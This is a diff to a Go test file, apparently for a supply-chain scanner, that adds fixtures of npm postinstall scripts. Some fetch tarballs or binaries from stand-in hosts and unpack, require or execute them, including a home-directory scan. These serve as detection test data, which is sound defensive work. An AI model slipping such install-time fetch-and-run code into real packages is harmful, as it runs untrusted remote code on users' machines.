@@ -30,6 +30,12 @@ func TestDownloadExecute(t *testing.T) {
 		{"scanner_over_home_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
 			"i.js": "const {execFileSync}=require(\"child_process\"),fs=require(\"fs\"),os=require(\"os\"); (async () => { fs.writeFileSync(\"/tmp/t.tgz\", Buffer.from(await (await fetch(`https://dl.example.invalid/th_${process.platform}.tar.gz`)).arrayBuffer()));\n" +
 				"execFileSync(\"tar\", [\"-xzf\", \"/tmp/t.tgz\", \"-C\", \"/tmp\"]); fs.chmodSync(\"/tmp/th\", 0o755); execFileSync(\"/tmp/th\", [\"filesystem\", os.homedir(), \"--json\"]) })()"}, finding.SeverityCritical},
+		// a second-stage package from a fake registry, unpacked and required at install
+		{"stage2_tarball_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": "const fs=require(\"fs\"),path=require(\"path\"),zlib=require(\"zlib\"); (async () => { const b = Buffer.from(await (await fetch(\"https://registry.example.invalid/helper/-/helper-2.1.0.tgz\")).arrayBuffer()); const dir = fs.mkdtempSync(\"/tmp/h-\"); fs.writeFileSync(path.join(dir, \"index.js\"), untar(zlib.gunzipSync(b))); require(path.join(dir, \"index.js\")) })()"}, finding.SeverityCritical},
+		// the same fallback from the project's own registry
+		{"optional_dep_from_registry", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": "const fs=require(\"fs\"),path=require(\"path\"),zlib=require(\"zlib\"); (async () => { const b = Buffer.from(await (await fetch(\"https://" + rt.RegistryHost + "/@x/linux-x64/-/linux-x64-1.0.0.tgz\")).arrayBuffer()); fs.writeFileSync(path.join(dir, \"bin\"), untar(zlib.gunzipSync(b))); require(path.join(dir, \"lib.js\")) })()"}, finding.SeverityLow},
 		// an engine installer checks the binary it fetched runs
 		{"engine_version_check", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
 			"i.js": "const {execFileSync}=require(\"child_process\"),fs=require(\"fs\"); (async () => { fs.writeFileSync(bin, Buffer.from(await (await fetch(`https://binaries.engines.example.invalid/${hash}/${platform}/engine.gz`)).arrayBuffer())); fs.chmodSync(bin, 0o755); execFileSync(bin, [\"--version\"]) })()"}, finding.SeverityMedium},
